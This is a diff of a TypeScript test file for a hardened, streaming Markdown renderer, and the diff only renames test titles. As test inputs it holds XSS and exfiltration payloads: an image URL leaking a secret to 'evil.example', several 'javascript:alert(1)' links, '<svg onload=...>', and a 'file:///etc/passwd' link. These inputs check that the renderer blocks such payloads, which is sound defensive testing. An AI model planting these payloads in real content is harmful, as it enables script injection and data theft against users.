@@ -7,14 +7,14 @@ const show = (text: string, growing = false) =>
   render(<Markdown text={text} growing={growing} />).container;
 
 describe('hardened Markdown', () => {
-  it('shows an image as a link instead of loading it', () => {
+  it('loads no picture, but offers it as a link', () => {
     const page = show('![chart](https://evil.example/p.png?leak=secret)');
     expect(page.querySelector('img')).toBeNull();
     expect(page.innerHTML).not.toMatch(/background|src=/);
     expect(screen.getByRole('link').getAttribute('href')).toContain('https://evil.example/');
   });
 
-  it('opens links in a new tab without opener and referrer', () => {
+  it('opens links elsewhere, without a way back', () => {
     show('[docs](https://example.com/a)');
     const link = screen.getByRole('link');
     expect(link.getAttribute('rel')).toBe('noopener noreferrer');
@@ -31,7 +31,7 @@ describe('hardened Markdown', () => {
     '[x](file:///etc/passwd)',
     '![x](javascript:alert(1))',
     '<javascript:alert(1)>',
-  ])('creates no link for %s', (text) => {
+  ])('makes no link of %s', (text) => {
     expect(show(text).querySelector('a')).toBeNull();
   });
 
@@ -42,13 +42,13 @@ describe('hardened Markdown', () => {
     '<svg onload=alert(1)>',
     '<a href="javascript:alert(1)">x</a>',
     '<style>body{display:none}</style>',
-  ])('creates no element for the HTML %s', (text) => {
+  ])('shows %s as what it is', (text) => {
     const page = show(`${text}\n\nand on`);
     expect(page.querySelector('script,img,iframe,svg,a,style')).toBeNull();
     expect(page.textContent).toContain('and on');
   });
 
-  it('wraps tables in a scroll container', () => {
+  it('lets wide tables scroll in themselves', () => {
     const page = show('| a | b |\n|---|---|\n| 1 | 2 |');
     expect(page.querySelector('.table-scroll > table')).not.toBeNull();
   });
@@ -59,19 +59,19 @@ describe('growing Markdown', () => {
     ['a **bold', 'strong'],
     ['some `code', 'code'],
     ['an *idea', 'em'],
-  ])('shows unfinished %s as if it were closed', (text, tag) => {
+  ])('shows %s as it will end', (text, tag) => {
     const page = show(text, true);
     expect(page.querySelector(tag)).not.toBeNull();
     expect(page.textContent).not.toMatch(/[*`]/);
   });
 
-  it('shows the text of a link with an unfinished address', () => {
+  it('shows the words of a link whose address is not there yet', () => {
     const page = show('see [the docs](https://exa', true);
     expect(page.textContent).toBe('see the docs');
     expect(page.querySelector('a')).toBeNull();
   });
 
-  it('shows the copy button when the code block is closed', () => {
+  it('offers to copy code once it is closed', () => {
     const open = show('```python\nx = 1', true);
     expect(open.querySelector('button')).toBeNull();
     const closed = show('```python\nx = 1\n```\n', true);
